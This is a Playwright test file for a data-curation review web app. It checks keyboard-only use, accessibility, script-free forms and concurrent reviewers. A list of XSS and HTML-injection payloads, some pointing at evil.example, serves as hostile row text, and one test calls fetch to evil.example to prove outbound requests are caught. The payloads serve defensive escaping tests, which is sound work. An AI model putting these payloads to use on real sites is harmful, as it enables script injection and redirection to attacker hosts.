"""The screens in a real browser: by keyboard alone, for everybody, and with rows that try to be more than text."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from curation.pipeline import run_stage
from curation.review.exchange import export_beside
from curation.review.plan import Wanted
from curation.review.plan_file import plan_beside
from curation.review.planning import fix_plan, look
from curation.review.queues import Seating
from curation.review.stage import Review
from curation.review.store import read_store, review_beside
from schemas.outcome import reject
from schemas.record import Reason, flagged
from schemas.step import StepDirectory
from tests.curation.review.served import Served, served
from tests.curation.review.watched import Watched, serious, watched
from tests.hostile import HOSTILE
from tests.support import pair, step_of

UNFINISHED = Reason(code="response_unfinished", field="response", found="Blue 3", limit="a full stop", span=(0, 4))
SHORT = Reason(code="instruction_too_short", field="instruction", found="1 word", limit="2 words")
MORE_HOSTILE = (
    *HOSTILE,
    "<svg><script>console.log(1)</script></svg><svg/onload=alert(1)>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe><object data='javascript:alert(1)'></object>",
    "<a href='javascript:alert(1)' autofocus>x</a><form action=//evil.example><button>x",
    "</textarea><script>alert(1)</script>",
    "'><script>alert(1)</script><link rel=stylesheet href=//evil.example/x.css>",
    '"><div hx-get="/undo" hx-trigger="load" hx-on:click="alert(1)" data-hx-post="/undo">',
    "<style>@import '//evil.example/x.css';body{display:none}</style><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><template><img src=x onerror=alert(1)></template>",
)


def made(tmp_path: Path, n: int = 6) -> StepDirectory:
    """Return a step of n records, one of them flagged, and a rejected row."""
    kept = [pair(f"Name colour {number}.", f"Blue {number}.") for number in range(n)]
    kept[3] = flagged(kept[3], UNFINISHED)
    return step_of(tmp_path / "1", [*kept, reject(pair("Sing"), SHORT)])


@pytest.fixture
def review(tmp_path: Path) -> Iterator[Served]:
    """A served review."""
    with served(made(tmp_path), Seating(n=3)) as running:
        yield running


@pytest.fixture
def seen(browser: Browser, review: Served) -> Iterator[Watched]:
    """Its first page, in a browser."""
    with watched(browser, review) as one:
        yield one
        assert one.said == []


def test_a_whole_review_by_keyboard_alone(browser: Browser, tmp_path: Path) -> None:
    """From the first page to the gate, no pointer: hunt, reject, edit, undo, measure, apply."""
    step = made(tmp_path)
    plan, _ = fix_plan(step, Wanted(limit=0.6, c=0))
    with served(step) as review, watched(browser, review) as seen:
        hunt_and_measure(seen, plan.n)
        assert seen.said == []

    events = read_store(review_beside(step.path))
    stage = Review(decisions=str(export_beside(step.path)))
    after = run_stage(stage, step.path, tmp_path / "2").step
    assert sum(event.action == "undo" for event in events) == 3
    assert {event.queue for event in events} == {"hunt", "accept"}
    assert sum(event.ms is not None for event in events) == len(events) - 3
    assert after.manifest.counts.reasons == {"reviewer_rejected": 2}
    assert any(record.response == "Green: a, x and u are only letters here." for record in after.records())
    assert look(plan_beside(step.path)).acceptance.outcome == "passed"


def hunt_and_measure(seen: Watched, drawn: int) -> None:
    """Decide about six records in the hunt, taking some back, then about those that a plan drew."""
    page = seen.page
    page.locator("a[href='/hunt']").last.focus()
    seen.press("Enter")
    assert seen.heading() == "Hunt 1 of 6"
    seen.press("x 1")
    assert seen.heading() == "Hunt 2 of 6"
    seen.press("e")
    page.keyboard.press("Control+A")
    page.keyboard.type("Green: a, x and u are only letters here.")
    seen.press("Control+Enter")
    seen.press("a f s u u u x w")
    for _ in range(3):
        seen.press("a")
    assert seen.heading() == "Nothing is left in this queue"
    seen.press("h")
    page.locator("a[href='/accept']").last.focus()
    seen.press("Enter" + " a" * drawn)
    assert seen.heading() == "Nothing is left in this queue"


def test_the_page_says_aloud_what_happened(seen: Watched) -> None:
    """And the focus goes to the next row."""
    seen.page.goto(seen.page.url + "hunt")
    seen.press("a")

    assert seen.page.inner_text("#said") == "hunt, row 2 of 6; the last one accepted"
    assert seen.page.evaluate("document.activeElement.tagName") == "H1"


def test_keys_can_be_turned_off_and_changed(seen: Watched, review: Served) -> None:
    """As WCAG 2.1.4 wants it, and the browser remembers."""
    root = seen.page.url
    seen.page.goto(root + "keys")
    seen.page.fill("[data-remap=accept]", "b")
    seen.page.goto(root + "hunt")
    seen.press("a")
    assert seen.heading() == "Hunt 1 of 6"
    assert seen.page.inner_text("[data-press=accept] kbd") == "b"
    seen.press("b")
    assert seen.heading() == "Hunt 2 of 6"
    seen.page.goto(root + "keys")
    seen.page.uncheck("[data-keys-on]")
    seen.page.goto(root + "hunt")
    seen.press("b x 1")

    assert [event.action for event in review.desk.store.events()] == ["accept"]


def test_everything_works_without_scripts(browser: Browser, review: Served) -> None:
    """Forms and links alone: decide, reject for a reason, undo, search."""
    with watched(browser, review, java_script_enabled=False) as seen:
        page = seen.page
        page.click("main a[href='/hunt']")
        page.click("button[value=accept]")
        page.click("#reject summary")
        page.click("button[value=unclear]")
        assert seen.heading() == "Hunt 3 of 6"
        page.click("form[action='/undo'] button")
        assert seen.heading() == "Hunt 2 of 6"
        page.click("nav a[href='/explore']")
        page.fill("input[name=words]", "colour")
        page.click("form[role=search] button")

        assert seen.heading().startswith("Explore 6 rows")
        assert [event.action for event in review.desk.store.events()] == ["accept", "reject", "undo"]


@pytest.mark.parametrize("scripts", [True, False])
def test_enter_in_the_note_of_a_rejection_chooses_no_reason(browser: Browser, review: Served, scripts: bool) -> None:
    """Nothing is decided and the note stays; the reason that is then chosen takes it along."""
    with watched(browser, review, java_script_enabled=scripts) as seen:
        page = seen.page
        page.goto(page.url + "hunt/1")
        page.click("#reject summary")
        assert not page.is_visible("#reject button:disabled")
        page.fill("#reject input[name=note]", "Twice seven is 14.")
        for key in ("Enter", "Control+Enter"):
            page.press("#reject input[name=note]", key)
        assert seen.heading() == "Hunt 1 of 6"
        assert review.desk.store.events() == []
        page.click("button[value=unclear]")
        page.wait_for_url("**/hunt/2")

    (event,) = review.desk.store.events()
    assert (event.action, event.reasons, event.note) == ("reject", ("unclear",), "Twice seven is 14.")


EVERY = 4
"""Hostile texts in one field."""
SCREENS = ("", "hunt/1", "accept/1", "drops/1", "explore?words=blue", "map", "agreement", "guidelines", "keys", "none")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nobody_is_kept_out(browser: Browser, review: Served, scheme: str) -> None:
    """Axe finds nothing serious on any screen, light or dark, with a panel open or not."""
    with watched(browser, review, color_scheme=scheme) as seen:
        root, found = seen.page.url, []
        for path in SCREENS[: len(SCREENS) if scheme == "light" else 3]:
            seen.page.goto(root + path)
            found += serious(seen.page)
            for key in "xeg" if path == "hunt/1" else "":
                seen.press(key)
                found += serious(seen.page)

        assert found == []


def test_axe_would_have_said_so(seen: Watched) -> None:
    """The check can fail."""
    seen.page.evaluate("document.querySelector('main').innerHTML = '<img src=data:,><button></button>'")

    assert serious(seen.page)


def test_hostile_rows_run_nothing_and_load_nothing(browser: Browser, tmp_path: Path) -> None:
    """Wherever they are shown: on every screen, in a panel, in a diff, in a field."""
    texts = [" ".join(MORE_HOSTILE[at : at + EVERY]) for at in range(0, len(MORE_HOSTILE), EVERY)]
    rows = [pair(f"A {text}", f"B {text}", f"C {text}", category=text) for text in texts]
    flags = [
        Reason(code=text, field="response", found=text, limit=text, span=(0, 5), scores={text: 1.0}) for text in texts
    ]
    kept = [flagged(row, flag) for row, flag in zip(rows, flags, strict=True)]
    dropped = [reject(pair(f"D {row.instruction}", row.response), flag) for row, flag in zip(rows, flags, strict=True)]
    with (
        served(step_of(tmp_path / "1", [*kept, *dropped]), Seating(reviewer=MORE_HOSTILE[0])) as running,
        watched(browser, running) as seen,
    ):
        root = seen.page.url
        for number in range(1, len(kept) + 1):
            seen.page.goto(f"{root}hunt/{number}")
            seen.press("e Escape d")
        for path in ("drops/1", "drops/2", "accept/1", "explore?words=evil", "explore?code=" + "%3Cscript%3E"):
            seen.page.goto(root + path)
        seen.page.goto(f"{root}hunt")
        seen.press("a x 1 u")

        assert seen.said == []
        assert seen.page.evaluate(
            "[...document.scripts].every((one) => new URL(one.src).pathname.startsWith('/static/'))"
        )


def test_the_watch_would_have_seen_it(browser: Browser, review: Served) -> None:
    """A script, a request and a message are noted; so the checks above can fail."""
    with watched(browser, review) as seen:
        seen.page.evaluate("console.log('x'); fetch('http://evil.example/').catch(() => 0)")
        seen.page.wait_for_load_state("networkidle")

        assert any(one.startswith("console: x") for one in seen.said)
        assert any("evil.example" in one for one in seen.said)


def test_two_reviewers_at_once(browser: Browser, tmp_path: Path) -> None:
    """Each has their own screens on the same store; nobody's decision is lost or taken for the other's."""
    step = made(tmp_path)
    with (
        served(step, Seating(reviewer="anna")) as one,
        served(step, Seating(reviewer="ben")) as two,
        watched(browser, one) as anna,
        watched(browser, two) as ben,
    ):
        for seen in (anna, ben):
            seen.page.goto(seen.page.url + "hunt")
        for _ in range(3):
            anna.press("a")
            ben.press("x 1")
        ben.press("u")

        assert (anna.heading(), ben.heading()) == ("Hunt 4 of 6", "Hunt 3 of 6")
    events = read_store(review_beside(step.path))
    assert [event.action for event in events if event.reviewer == "anna"] == ["accept"] * 3
    assert [event.action for event in events if event.reviewer == "ben"] == ["reject"] * 3 + ["undo"]
